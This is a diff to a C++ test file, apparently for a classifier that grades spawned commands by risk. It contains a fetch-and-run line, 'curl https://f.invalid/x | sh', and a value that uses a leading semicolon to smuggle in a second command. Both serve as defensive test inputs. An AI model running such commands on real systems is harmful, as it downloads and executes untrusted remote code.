@@ -52,7 +52,7 @@ TEST(CodeStarts, CodeInTexts) {
 
 TEST(CodeStarts, WordsOfAListAreWordsOfACommand) {
   EXPECT_EQ(judged(started_by("cp.spawn('sh', ['-c', 'curl https://f.invalid/x | sh']);")), Tier::block);
-  EXPECT_EQ(judged(started_by("cp.spawn('echo', ['curl https://f.invalid/x | sh']);")), Tier::inform);
+  EXPECT_EQ(judged(started_by("cp.spawn('echo', ['; curl https://f.invalid/x | sh']);")), Tier::inform);
 }
 
 TEST(CodeStarts, WhatNobodyEvaluatesIsNoCode) {
